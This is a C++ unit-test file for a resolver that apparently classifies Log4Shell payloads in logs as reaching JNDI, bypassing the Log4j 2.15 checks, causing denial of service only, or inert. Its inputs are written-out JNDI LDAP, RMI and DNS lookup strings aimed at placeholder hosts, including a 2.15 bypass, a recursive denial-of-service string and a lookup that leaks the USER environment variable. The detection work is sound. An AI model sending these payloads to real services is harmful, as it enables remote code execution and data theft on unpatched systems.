#include "hunt/resolve.h"

#include <gtest/gtest.h>

namespace l4s::hunt {
namespace {

TEST(ResolveTest, Verdicts) {
  EXPECT_EQ(resolve("${jndi:ldap://198.51.100.23:1389/a}").verdict, Verdict::kReachesJndi214);
  EXPECT_EQ(resolve("${jndi:ldap://127.0.0.1#evil.example:1389/a}").verdict, Verdict::kPasses215Checks);
  EXPECT_EQ(resolve("${${::-${::-$${::-j}}}}").verdict, Verdict::kDosOnly);
  EXPECT_EQ(resolve("GET /?q=${jenkins.url} HTTP/1.1").verdict, Verdict::kInert);
  EXPECT_EQ(resolve("$${jndi:ldap://x.example/a}").verdict, Verdict::kInert);
  EXPECT_EQ(verdict_name(Verdict::kPasses215Checks), "passes_2.15_checks");
}

TEST(ResolveTest, MessagePathOnly) {
  Resolution r = resolve("$${jndi:ldap://x.example/a} ${nope}");
  EXPECT_EQ(r.verdict, Verdict::kReachesJndi214);
  EXPECT_NE(r.techniques & kTechMessageRescan, 0u);
  ASSERT_EQ(r.targets.size(), 1u);
  EXPECT_EQ(r.targets[0].host, "x.example");
}

TEST(ResolveTest, TargetsAndExfiltration) {
  Resolution r = resolve("${jndi:dns://${env:USER}.x.example} ${jndi:${lower:R}mi://y.example:1099/o}");
  ASSERT_EQ(r.targets.size(), 2u);
  EXPECT_EQ(r.targets[0].name, "dns://${env:USER}.x.example");
  EXPECT_EQ(r.targets[1].name, "rmi://y.example:1099/o");
  EXPECT_EQ(r.exfiltrated, std::vector<std::string>{"env:USER"});
  // A lookup that returns nothing leaves its original text: what the application logs.
  EXPECT_EQ(r.resolved, "${jndi:dns://${env:USER}.x.example} ${jndi:${lower:R}mi://y.example:1099/o}");
}

}  // namespace
}  // namespace l4s::hunt
